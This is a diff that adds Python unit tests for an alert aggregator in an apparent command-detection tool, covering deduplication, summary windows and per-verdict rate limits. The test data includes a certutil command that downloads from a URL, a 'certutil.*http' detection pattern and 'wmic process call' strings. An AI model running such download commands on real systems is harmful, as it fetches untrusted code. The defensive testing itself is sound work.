@@ -0,0 +1,46 @@
+from alerter import AlertAggregator
+
+
+class FakeClock:
+    def __init__(self):
+        self.now = 0.0
+
+    def __call__(self):
+        return self.now
+
+
+def make_aggregator(**options):
+    shown, summaries = [], []
+    clock = FakeClock()
+    aggregator = AlertAggregator(
+        printer=lambda cmd, result: shown.append(cmd),
+        summary_printer=lambda cmd, result, repeats, limited, window:
+            summaries.append((cmd, result["verdict"], repeats, limited)),
+        clock=clock, **options)
+    return aggregator, clock, shown, summaries
+
+
+def test_identical_alerts_collapse_into_summary():
+    aggregator, clock, shown, summaries = make_aggregator(window=60)
+    result = {"verdict": "malicious", "reason": "Rule-Based: matched 'certutil.*http'"}
+    for _ in range(1000):
+        aggregator.submit("certutil -urlcache -f http://x/a", result)
+    assert shown == ["certutil -urlcache -f http://x/a"]
+    assert summaries == []
+
+    clock.now = 61
+    aggregator.tick()
+    assert summaries == [("certutil -urlcache -f http://x/a", "malicious", 999, 0)]
+
+
+def test_rate_limit_per_verdict_and_bounded_state():
+    aggregator, clock, shown, summaries = make_aggregator(
+        window=10, max_tracked=5, rate_limits={"suspicious": (0.0, 3)})
+    for i in range(10):
+        aggregator.submit(f"wmic process call {i}", {"verdict": "suspicious", "reason": "r"})
+    assert len(shown) == 3
+    assert aggregator.stats()["open_windows"] <= 5
+
+    clock.now = 11
+    aggregator.tick()
+    assert (None, "suspicious", 0, 7) in summaries